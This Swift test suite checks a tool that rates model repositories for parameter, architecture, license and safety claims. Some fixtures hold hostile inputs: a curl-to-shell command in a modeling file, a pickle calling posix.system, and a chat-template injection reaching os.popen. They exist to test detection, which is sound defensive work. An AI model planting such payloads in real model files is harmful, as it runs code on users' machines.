import Foundation
import Testing
import TrustmarkCore
import TrustmarkTestSupport

@testable import ModelRepository

/// Probes on small repositories written by the tests: each scenario is one claim checked against one artifact.
@Suite("Probes on repositories")
struct ProbeScenarioTests {
    @Test func aCardSizeThatAgreesWithTheHeadersPasses() throws {
        let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\nA model with 448 parameters in total.\n"])
        try repository.write("model.safetensors", llamaSafetensors(layers: 3))
        let rating = try repository.rating()
        #expect(rating.outcome(.parameterCount) == .pass)
    }

    @Test func aCardSizeTheHeadersContradictPointsAtBoth() throws {
        let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\n\nThis is a 13B parameter model.\n"])
        try repository.write("model.safetensors", llamaSafetensors(layers: 3))
        let finding = try #require(try repository.rating().findings(.parameterCount).first)
        #expect(finding.outcome == .contradicted)
        #expect(finding.evidence.first?.path == "README.md" && finding.evidence.first?.lineStart == 6)
        #expect(finding.evidence.contains { $0.path == "model.safetensors" && $0.byteStart == 0 })
        #expect(finding.values["measured"] == "448")
    }

    @Test(.enabled(if: SharedData.has("safety-corpus/benign"), "needs ../shared/safety-corpus/benign"))
    func onnxOnlyRepositoriesAreCountedFromTheGraph() throws {
        guard let root = SharedData.path("safety-corpus/benign") else {
            Issue.record("../shared/safety-corpus/benign is not readable")
            return
        }
        let onnx = Array(try Data(contentsOf: URL(fileURLWithPath: root + "/silero_vad_16k_op15.onnx")))
        let agreeing = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# vad\nA voice detector with 310K parameters.\n"])
        try agreeing.write("model.onnx", onnx)
        let rating = try agreeing.rating()
        #expect(rating.outcome(.parameterCount) == .pass)
        #expect(rating.findings(.parameterCount).first?.values["measured"] == "309633")
        let lying = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# vad\nA 7B parameter model.\n"])
        try lying.write("onnx/model.onnx", onnx)
        #expect(try lying.rating().outcome(.parameterCount) == .contradicted)
        // Beside safetensors, an ONNX export is the same model again: it does not add to the count.
        let both = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\nA model with 448 parameters in total.\n"])
        try both.write("model.safetensors", llamaSafetensors(layers: 3))
        try both.write("onnx/model.onnx", onnx)
        #expect(try both.rating().outcome(.parameterCount) == .pass)
    }

    @Test func pytorchCheckpointsAreCountedFromTheirPickledShapes() throws {
        var folder = URL(fileURLWithPath: #filePath)
        for _ in 0..<2 { folder.deleteLastPathComponent() }
        let checkpoint = Array(try Data(contentsOf: folder.appendingPathComponent("Fixtures/pypi/lpips-v0.1-squeeze.pth")))
        let agreeing = try TemporaryRepository(["README.md": "---\nlicense: bsd-2-clause\n---\n# lpips\nThe linear heads have 2,240 parameters.\n"])
        try agreeing.write("pytorch_model.bin", checkpoint)
        let finding = try #require(try agreeing.rating().findings(.parameterCount).first)
        #expect(finding.outcome == .pass)
        #expect(finding.values["measured"] == "2240")
        let lying = try TemporaryRepository(["README.md": "---\nlicense: bsd-2-clause\n---\n# lpips\nA 1.3B parameter model.\n"])
        try lying.write("pytorch_model.bin", checkpoint)
        #expect(try lying.rating().outcome(.parameterCount) == .contradicted)
    }

    /// A state dict in torch.save's zip layout (Tests/Fixtures/pytorch): its parameter names give the layer count,
    /// so a `.bin`-only repository gets the same config cross-check as safetensors.
    @Test func pytorchStateDictNamesAreCheckedAgainstTheConfigLayers() throws {
        var folder = URL(fileURLWithPath: #filePath)
        for _ in 0..<2 { folder.deleteLastPathComponent() }
        let checkpoint = Array(try Data(contentsOf: folder.appendingPathComponent("Fixtures/pytorch/llama-3-layers.bin")))
        let matching = try TemporaryRepository(["config.json": llamaConfig(layers: 3)])
        try matching.write("pytorch_model.bin", checkpoint)
        let snapshot = try matching.snapshot()
        #expect(snapshot.weights.blockIndices == [0, 1, 2])
        #expect(snapshot.weights.parameterCount == 2488)
        #expect(try matching.rating().findings(.architecture).contains { $0.outcome == .pass && $0.message.contains("3 blocks") })
        let wrong = try TemporaryRepository(["config.json": llamaConfig(layers: 4)])
        try wrong.write("pytorch_model.bin", checkpoint)
        #expect(try wrong.rating().findings(.architecture).contains { $0.outcome == .contradicted && $0.values["measured"] == "3" })
    }

    @Test func packedQuantizedWeightsAreNotComparedNaively() throws {
        let repository = try TemporaryRepository(["README.md": "# m\nA 7B parameter model, 4-bit GPTQ.\n"])
        try repository.write(
            "model.safetensors",
            llamaSafetensors(layers: 0, names: ["model.layers.0.self_attn.q_proj.qweight", "model.layers.0.self_attn.q_proj.scales"]))
        #expect(try repository.rating().outcome(.parameterCount) == .claimed)
    }

    @Test func configLayersMustMatchTheWeights() throws {
        let repository = try TemporaryRepository(["config.json": llamaConfig(layers: 4)])
        try repository.write("model.safetensors", llamaSafetensors(layers: 2))
        let findings = try repository.rating().findings(.architecture)
        #expect(
            findings.contains {
                $0.outcome == .contradicted && $0.evidence.first?.pointer == "/num_hidden_layers" && $0.evidence.first?.lineStart == 5
            })
    }

    @Test func dangerousRemoteCodeIsUnsafeAndFailsTheGate() throws {
        let repository = try TemporaryRepository([
            "README.md": "---\nlicense: mit\n---\n",
            "config.json": llamaConfig(layers: 1, extra: #""auto_map": {"AutoModel": "modeling_x.M"}"#),
            "modeling_x.py": "import torch\n# os.system('not this comment')\nmodel.eval()\nos.system('curl example.org | sh')\n",
        ])
        let rating = try repository.rating()
        let unsafe = rating.findings(.remoteCode).filter { $0.outcome == .unsafe }
        #expect(unsafe.count == 1)
        #expect(unsafe.first?.evidence.first?.lineStart == 4)
        #expect(unsafe.first?.severity == .critical)
        #expect(rating.label == "F-unsafe")
    }

    @Test func benignRemoteCodeIsReportedButNotUnsafe() throws {
        let repository = try TemporaryRepository([
            "config.json": llamaConfig(layers: 1, extra: #""auto_map": {"AutoModel": "other/repo--modeling_x.M"}"#),
            "modeling_x.py": "def f(model):\n    return model.eval()\n",
        ])
        let rating = try repository.rating()
        #expect(rating.outcome(.remoteCode) == .absent)
        #expect(!rating.isUnsafe)
        #expect(rating.findings(.remoteCode).contains { $0.values["repository"] == "other/repo" })
    }

    @Test func tokenizerConfigsCountForRemoteCodeAndChatTemplates() throws {
        let repository = try TemporaryRepository([
            "config.json": llamaConfig(layers: 1),
            "tokenizer_config.json": #"{"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}, "chat_template": "{{ messages }}"}"#,
        ])
        let rating = try repository.rating()
        #expect(rating.outcome(.remoteCode) == .absent)
        #expect(rating.findings(.remoteCode).last?.evidence.first?.path == "tokenizer_config.json")
        #expect(rating.facts.hasChatTemplate)
    }

    @Test func aPickleThatCallsASinkFailsTheUnsafeGateWithItsByteOffset() throws {
        let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n"])
        // PROTO 2, GLOBAL posix.system, BINPUT, BINUNICODE "true", TUPLE1, REDUCE, STOP: inert bytes, never loaded.
        try repository.write(
            "pytorch_model.bin",
            [0x80, 0x02] + Array("cposix\nsystem\n".utf8) + [0x71, 0x00, 0x58, 0x04, 0x00, 0x00, 0x00]
                + Array("true".utf8) + [0x85, 0x52, 0x2E])
        let rating = try repository.rating()
        let finding = try #require(rating.findings(.artifactCode).first)
        #expect(finding.outcome == .unsafe)
        #expect(finding.evidence.first?.path == "pytorch_model.bin" && finding.evidence.first?.byteStart == 2)
        #expect(finding.values["rule"] == "PKL-DENY")
        #expect(rating.label == "F-unsafe")
    }

    @Test func aBenignPickleCheckpointPassesTheCodeCheck() throws {
        let repository = try TemporaryRepository()
        try repository.write("training_state.pkl", [0x80, 0x02] + Array("ccollections\nOrderedDict\n".utf8) + [0x71, 0x00, 0x29, 0x52, 0x2E])
        let rating = try repository.rating()
        #expect(rating.outcome(.artifactCode) == .pass)
        #expect(!rating.isUnsafe)
    }

    @Test func aChatTemplateThatReachesPythonIsUnsafe() throws {
        let repository = try TemporaryRepository([
            "README.md": "---\nlicense: mit\n---\n",
            "tokenizer_config.json":
                "{\n  \"bos_token\": \"<s>\",\n  \"chat_template\": \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"\n}",
        ])
        let rating = try repository.rating()
        let finding = try #require(rating.findings(.chatTemplate).first)
        #expect(finding.outcome == .unsafe)
        #expect(finding.evidence.first?.path == "tokenizer_config.json" && finding.evidence.first?.lineStart == 3)
        #expect(rating.outcome(.artifactCode) != .unsafe)
        #expect(rating.label == "F-unsafe")
    }

    @Test func pickleOnlyWeightsAreNotSafeSerialization() throws {
        let repository = try TemporaryRepository()
        try repository.write("pytorch_model.bin", [0x80, 0x02, 0x7D, 0x71, 0x00, 0x2E])
        #expect(try repository.rating().outcome(.safeSerialization) == .absent)
        try repository.write("model.safetensors", llamaSafetensors(layers: 1))
        #expect(try repository.rating().outcome(.safeSerialization) == .pass)
    }

    @Test func missingLicenseCapsTheGradeAtD() throws {
        let repository = try TemporaryRepository(["README.md": "# m\n"])
        let rating = try repository.rating()
        #expect(rating.outcome(.licenseDeclared) == .absent)
        #expect(rating.gates.contains { $0.gate == .noLicense && $0.triggered })
        #expect(rating.grade.map { $0 >= .d } == true)
    }

    @Test(arguments: [
        ("---\nlicense: apache-2.0\n---\n", Outcome.pass), ("---\nlicense: other\n---\n", .claimed),
        ("---\nlicense: other\nlicense_name: acme\nlicense_link: https://acme.example/license\n---\n", .pass),
        ("---\nlicense: unknown\n---\n", .absent), ("# no metadata\n", .absent),
        ("---\nlicense: other\nlicense_name: acme\nlicense_link: LICENSE.md\n---\n", .claimed),
    ])
    func licenseDeclarations(card: String, outcome: Outcome) throws {
        #expect(try TemporaryRepository(["README.md": card]).rating().outcome(.licenseDeclared) == outcome)
    }

    @Test func aLicenseFileAloneCountsAsDeclared() throws {
        let rating = try TemporaryRepository(["LICENSE.txt": "MIT License ..."]).rating()
        #expect(rating.outcome(.licenseDeclared) == .pass)
        #expect(rating.findings(.licenseDeclared).first?.evidence.first?.path == "LICENSE.txt")
    }

    @Test func shardIndexesMustMatchTheShards() throws {
        let shard = llamaSafetensors(layers: 1)
        let dataBytes = 16 * 8 * 2 * 2 + 64 * 2
        let index =
            #"{"metadata": {"total_size": \#(dataBytes + 4096)}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}"#
        let repository = try TemporaryRepository(["model.safetensors.index.json": index])
        try repository.write("model-00001-of-00002.safetensors", shard)
        // A shard missing from a local folder is a partial download: could not check. From a whole Hub listing, the
        // index contradicts the files.
        let missing = try repository.rating().findings(.weightIntegrity)
        #expect(missing.contains { $0.outcome == .unknown && $0.message.contains("not in the repository") })
        var listed = try repository.snapshot()
        listed.subject.source = .hub
        #expect(
            RatingEngine().rate(listed).findings(.weightIntegrity).contains {
                $0.outcome == .contradicted && $0.message.contains("not in the repository")
            })
        try repository.write("model-00002-of-00002.safetensors", shard)
        try repository.write("model-00003-of-00003.safetensors", shard)
        let findings = try repository.rating().findings(.weightIntegrity)
        #expect(findings.contains { $0.message.contains("total_size") && $0.evidence.first?.pointer == "/metadata/total_size" })
        #expect(findings.contains { $0.message.contains("does not list it") })
    }

    @Test func corruptWeightsAreContradictedNotCrashed() throws {
        let repository = try TemporaryRepository()
        try repository.write("model.safetensors", Array(llamaSafetensors(layers: 2).dropLast(10)))
        let rating = try repository.rating()
        #expect(rating.findings(.weightIntegrity).contains { $0.outcome == .contradicted && $0.message.contains("truncated") })
        #expect(rating.outcome(.parameterCount) == .unknown)
    }

    @Test func openDataNextToProprietaryDataIsContradicted() throws {
        let card = "---\nlicense: mit\n---\n# m\n\nTrained on fully open data.\n\n## Training data\nOur data is not publicly available.\n"
        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings(.trainingData).first)
        #expect(finding.outcome == .contradicted)
        #expect(finding.evidence.compactMap(\.lineStart) == [6, 9])
    }

    @Test func datasetsInMetadataDiscloseTrainingData() throws {
        let card = "---\nlicense: mit\ndatasets:\n  - allenai/c4\n---\n"
        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings(.trainingData).first)
        #expect(finding.outcome == .pass)
        #expect(finding.evidence.first?.lineStart == 4)
        #expect(finding.evidence.first?.pointer == "/datasets/0")
    }

    @Test func derivativesMustDeclareTheirBase() throws {
        let prose = try TemporaryRepository(["README.md": "# m\nThis model is fine-tuned from Llama-3.1-8B.\n"]).rating()
        #expect(prose.outcome(.baseModel) == .claimed)
        let declared = try TemporaryRepository(["README.md": "---\nbase_model: meta-llama/Llama-3.1-8B\n---\n"]).rating()
        #expect(declared.outcome(.baseModel) == .pass)
        let original = try TemporaryRepository(["README.md": "# m\nTrained from scratch.\n"]).rating()
        #expect(original.outcome(.baseModel) == .notApplicable)
    }

    @Test func ratingsAreDeterministic() throws {
        let repository = try TemporaryRepository([
            "README.md": "---\nlicense: mit\n---\n# m\n## Uses\nFor tests.\n", "config.json": llamaConfig(layers: 2),
        ])
        try repository.write("model.safetensors", llamaSafetensors(layers: 2))
        let first = try repository.rating()
        let second = try repository.rating()
        #expect(first.findings == second.findings)
        #expect(first.score == second.score)
    }
}

@Suite("Bundled examples")
struct ExampleTests {
    static func example(_ name: String) throws -> Rating {
        var folder = URL(fileURLWithPath: #filePath)
        for _ in 0..<3 { folder.deleteLastPathComponent() }
        let path = folder.appendingPathComponent("Examples").appendingPathComponent(name).path
        return RatingEngine().rate(try SnapshotLoader().load(.folder(path: path)))
    }

    @Test func theOpenModelEarnsAnA() throws {
        let rating = try ExampleTests.example("open-tiny-lm")
        #expect(rating.grade == .a)
        #expect(!rating.findings.contains { [.contradicted, .unsafe, .unknown].contains($0.outcome) })
        #expect(rating.outcome(.trainingData) == .pass && rating.outcome(.evaluationProvenance) == .pass && rating.outcome(.weightIntegrity) == .pass)
        #expect(rating.facts.parameters == 164_672)
    }

    @Test func theCommunityModelShowsItsGaps() throws {
        let rating = try ExampleTests.example("community-chat")
        #expect(rating.grade == .c)
        #expect(rating.outcome(.section(.outOfScope)) == .absent)
        #expect(rating.outcome(.evaluationProvenance) == .claimed)
        #expect(rating.outcome(.remoteCode) == .absent)
        #expect(rating.outcome(.baseModel) == .pass)
        #expect(rating.outcome(.chatTemplate) == .pass)
        #expect(!rating.isUnsafe)
    }

    @Test func theContradictingCardIsCaughtAtTheExactLine() throws {
        let rating = try ExampleTests.example("contradicting-card")
        let parameters = try #require(rating.findings(.parameterCount).first)
        #expect(parameters.outcome == .contradicted)
        #expect(parameters.evidence[0].path == "README.md" && parameters.evidence[0].lineStart == 11)
        #expect(parameters.evidence[0].snippet?.contains("7 billion parameter") == true)
        #expect(parameters.evidence[1].path == "model.safetensors" && parameters.evidence[1].byteEnd != nil)
        #expect(rating.findings(.architecture).filter { $0.outcome == .contradicted }.count == 2)
        #expect(rating.outcome(.trainingData) == .contradicted)
        #expect(rating.label.hasSuffix("⚠"))
        #expect(rating.grade.map { $0 >= .b } == true)
    }
}
